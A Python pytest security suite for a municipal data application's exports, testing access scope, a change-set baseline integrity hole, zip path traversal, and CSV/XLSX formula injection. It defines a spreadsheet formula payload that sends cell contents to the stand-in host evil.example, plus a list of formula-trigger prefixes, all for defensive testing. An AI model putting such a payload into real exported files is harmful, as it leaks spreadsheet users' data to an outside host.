"""Exports: scope of what leaves the system, integrity of the Geoportal change set, and
spreadsheet formula injection through text that municipalities can write."""

from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cockpit.domain.errors import AccessDeniedError
from cockpit.domain.roles import Permission
from cockpit.exports.metadata import build_record
from cockpit.exports.tables import to_csv, to_xlsx
from cockpit.services import areas, authz, exports
from cockpit.services.areas import export as area_export
from cockpit.services.areas import review as area_review
from tests.areas_support import inner_square
from tests.config_support import TEST_CONFIG
from tests.security.conftest import DemoWorld

# What a Kommune user can type as the name of a proposed area. In Excel/LibreOffice a cell
# starting with = + - @ is a formula: this one sends cell contents to a foreign host.
FORMULA = '=HYPERLINK("https://evil.example/?d="&A2&B2,"Details anzeigen")'
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _read_geojson(path: Path) -> list[dict]:  # type: ignore[type-arg]
    features: list[dict] = json.loads(path.read_text(encoding="utf-8"))["features"]  # type: ignore[type-arg]
    return features


def test_kommune_exports_only_own_areas(demo: DemoWorld, tmp_path: Path) -> None:
    user = demo.principal("kommune.goerlitz")
    with pytest.raises(AccessDeniedError):
        area_export.export_areas(
            demo.session,
            user,
            target="analysis",
            file_format="geojson",
            out_dir=tmp_path / "foreign",
            municipality_id=demo.zittau.id,
            config=TEST_CONFIG,
        )
    result = area_export.export_areas(
        demo.session,
        user,
        target="analysis",
        file_format="geojson",
        out_dir=tmp_path / "own",
        config=TEST_CONFIG,
    )
    features = _read_geojson(result.files[0])
    assert features
    assert {f["properties"]["gem_ags"] for f in features} == {demo.goerlitz.ags}
    # The table export behind the area list: same scope.
    table = exports.get_area_table(demo.session, user, config=TEST_CONFIG)
    assert table.rows and {row[2] for row in table.rows} == {demo.goerlitz.ags}
    # Kenndaten tables of a foreign municipality are refused outright.
    with pytest.raises(AccessDeniedError):
        exports.get_kenndaten_tables(demo.session, user, demo.zittau.id, config=TEST_CONFIG)


def test_admin_may_not_export_municipal_data(demo: DemoWorld, tmp_path: Path) -> None:
    admin = demo.principal("admin")
    assert authz.scope_for(admin, Permission.EXPORT_DATA).is_empty
    with pytest.raises(AccessDeniedError):
        area_export.export_areas(
            demo.session,
            admin,
            target="analysis",
            file_format="csv",
            out_dir=tmp_path,
            config=TEST_CONFIG,
        )
    with pytest.raises(AccessDeniedError):
        exports.get_area_table(demo.session, admin, config=TEST_CONFIG)


def test_kreis_change_set_contains_a_changed_area(demo: DemoWorld, tmp_path: Path) -> None:
    """Control for the next test: without a foreign export in between, the change shows."""
    kreis = demo.principal("kreis")
    area_export.export_areas(
        demo.session,
        kreis,
        target="geoportal",
        file_format="geojson",
        out_dir=tmp_path / "a",
        config=TEST_CONFIG,
    )
    time.sleep(0.02)
    changed = areas.list_areas(demo.session, kreis, limit=1, config=TEST_CONFIG).items[0]
    areas.update_area(
        demo.session,
        kreis,
        changed.id,
        changed.version,
        {"notes": "Neu: Gleisanschluss geplant"},
        config=TEST_CONFIG,
    )
    time.sleep(0.02)
    delta = area_export.export_areas(
        demo.session,
        kreis,
        target="geoportal",
        file_format="geojson",
        out_dir=tmp_path / "c",
        changes_only=True,
        config=TEST_CONFIG,
    )
    sent = {f["properties"]["public_id"] for f in _read_geojson(delta.files[0])}
    assert sent == {changed.public_id}


def test_read_only_analyse_export_does_not_move_the_geoportal_change_baseline(
    demo: DemoWorld, tmp_path: Path
) -> None:
    """HOLE (integrity): Analyse "edits nothing", yet its export writes the ExportRun that
    the Kreis-Redaktion's next "nur Änderungen" Geoportal export counts from.

    Sequence: Kreis exports to the Geoportal (baseline) → Kreis changes an area → Analyse
    exports with target "geoportal" (any format, full) → Kreis exports the changes: the
    changed area is missing, so the Geoportal never receives the change.
    """
    kreis = demo.principal("kreis")
    analyse = demo.principal("analyse")
    area_export.export_areas(
        demo.session,
        kreis,
        target="geoportal",
        file_format="geojson",
        out_dir=tmp_path / "a",
        config=TEST_CONFIG,
    )
    time.sleep(0.02)
    changed = areas.list_areas(demo.session, kreis, limit=1, config=TEST_CONFIG).items[0]
    areas.update_area(
        demo.session,
        kreis,
        changed.id,
        changed.version,
        {"notes": "Neu: Gleisanschluss geplant"},
        config=TEST_CONFIG,
    )
    time.sleep(0.02)
    with pytest.raises(AccessDeniedError):  # sync targets are for roles that edit areas
        area_export.export_areas(
            demo.session,
            analyse,
            target="geoportal",
            file_format="csv",
            out_dir=tmp_path / "b",
            config=TEST_CONFIG,
        )
    time.sleep(0.02)
    delta = area_export.export_areas(
        demo.session,
        kreis,
        target="geoportal",
        file_format="geojson",
        out_dir=tmp_path / "c",
        changes_only=True,
        config=TEST_CONFIG,
    )
    sent = {f["properties"]["public_id"] for f in _read_geojson(delta.files[0])}
    assert changed.public_id in sent, (
        "the Kreis change set lost a changed area because a read-only Analyse export "
        "reset the Geoportal baseline"
    )


def _injected_area(demo: DemoWorld) -> str:
    """A Kommune user proposes an area named like a formula; the Kreis accepts it."""
    goerlitz_user = demo.principal("kommune.goerlitz")
    kreis = demo.principal("kreis")
    proposal = area_review.propose_area(
        demo.session,
        goerlitz_user,
        demo.goerlitz.id,
        {"name": FORMULA, "kind": "gewerbe", "status": "verfuegbar"},
        inner_square(demo.goerlitz, 120.0, dx=-350.0, dy=420.0),
        comment="Bitte übernehmen",
        config=TEST_CONFIG,
    )
    result = area_review.accept_proposal(demo.session, kreis, proposal.id, config=TEST_CONFIG)
    return result.public_id


def test_area_table_xlsx_and_csv_do_not_turn_municipal_text_into_formulas(
    demo: DemoWorld,
) -> None:
    """HOLE: text cells are written unchanged, so ``=...`` becomes a live formula.

    openpyxl stores a string starting with "=" as a formula; Excel evaluates CSV cells
    starting with = + - @ as well. Text from municipalities (area names via proposals,
    Kenndaten, Geoportal imports) reaches Kreis/Analyse spreadsheets this way.
    """
    public_id = _injected_area(demo)
    kreis = demo.principal("kreis")
    table = exports.get_area_table(demo.session, kreis, config=TEST_CONFIG)
    row = next(r for r in table.rows if r[0] == public_id)
    assert row[1] == FORMULA  # the data itself is kept as typed
    record = build_record(
        kind="table",
        fmt="xlsx",
        params=table.params,
        data_hash=table.data_hash,
        principal=kreis,
        scope=table.scope_text,
        title=table.title,
    )
    workbook = load_workbook(io.BytesIO(to_xlsx([table], record)))
    sheet = workbook["Daten"]
    cells = [c for r in sheet.iter_rows() for c in r if isinstance(c.value, str)]
    injected = [c for c in cells if "evil.example" in c.value]
    assert injected, "the area name is in the workbook"
    assert all(c.data_type != "f" for c in injected), "XLSX cell is stored as a formula"

    text = to_csv(table).decode("utf-8-sig")
    for values in csv.reader(io.StringIO(text), delimiter=";"):
        for value in values:
            if "evil.example" in value:
                assert not value.startswith(FORMULA_PREFIXES), f"CSV formula cell: {value!r}"


def test_geoportal_csv_export_does_not_emit_formula_cells(demo: DemoWorld, tmp_path: Path) -> None:
    """HOLE: the area exchange CSV (``area_export._csv_cell``) has the same problem."""
    _injected_area(demo)
    result = area_export.export_areas(
        demo.session,
        demo.principal("kreis"),
        target="kwis",
        file_format="csv",
        out_dir=tmp_path,
        config=TEST_CONFIG,
    )
    text = result.files[0].read_text(encoding="utf-8-sig")
    found = False
    for values in csv.reader(io.StringIO(text), delimiter=";"):
        for value in values:
            if "evil.example" in value:
                found = True
                assert not value.startswith(FORMULA_PREFIXES), f"CSV formula cell: {value!r}"
    assert found


def test_snapshot_and_report_of_foreign_municipality_hold_public_data_only(
    demo: DemoWorld,
) -> None:
    """Correct today: a Kommune's Steckbrief of Zittau has no Kenndaten and no areas, and
    a map export of the own-municipality indicator carries only Görlitz's value."""
    user = demo.principal("kommune.goerlitz")
    report = exports.get_report_data(demo.session, user, demo.zittau.id, config=TEST_CONFIG)
    assert report.kenndaten is None and report.area_list is None
    assert report.area_geometries == ()
    assert all(k.visibility.value == "public" for k in report.profile.kpis)
    params = exports.SnapshotParams.from_mapping(
        {"indicator": "investitionsrueckstand_je_ew", "year": _latest_year(demo), "layers": []}
    )
    snap = exports.get_snapshot_data(demo.session, user, params, config=TEST_CONFIG)
    with_values = [
        ags for ags, v in zip(snap.frame["ags"], snap.frame["value"], strict=True) if v == v
    ]
    assert [a for a in with_values if a is not None] == [demo.goerlitz.ags]


def _latest_year(demo: DemoWorld) -> int:
    from cockpit.services import maps

    info = next(
        i
        for i in maps.list_indicators(demo.session, demo.principal("kreis"))
        if i.key == "investitionsrueckstand_je_ew"
    )
    assert info.latest_year is not None
    return info.latest_year


def test_zip_exports_are_not_written_outside_the_target(demo: DemoWorld, tmp_path: Path) -> None:
    """Shapefile export: the archive holds flat member names only (no path traversal)."""
    result = area_export.export_areas(
        demo.session,
        demo.principal("kreis"),
        target="kwis",
        file_format="shp",
        out_dir=tmp_path,
        config=TEST_CONFIG,
    )
    with zipfile.ZipFile(result.files[0]) as archive:
        names = archive.namelist()
    assert names and all("/" not in n and "\\" not in n and ".." not in n for n in names)
